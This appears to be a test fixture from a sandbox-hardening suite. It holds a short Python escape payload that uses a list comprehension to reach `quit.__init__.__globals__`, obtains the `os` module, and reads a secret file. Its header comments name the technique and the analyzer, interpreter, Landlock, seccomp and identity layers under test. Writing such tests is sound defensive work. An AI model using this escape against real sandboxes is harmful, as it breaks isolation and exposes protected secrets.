# class: object graph walk
# technique: a forbidden attribute in the element of a comprehension
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
g = [quit.__init__.__globals__ for _ in 'x'][0]
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
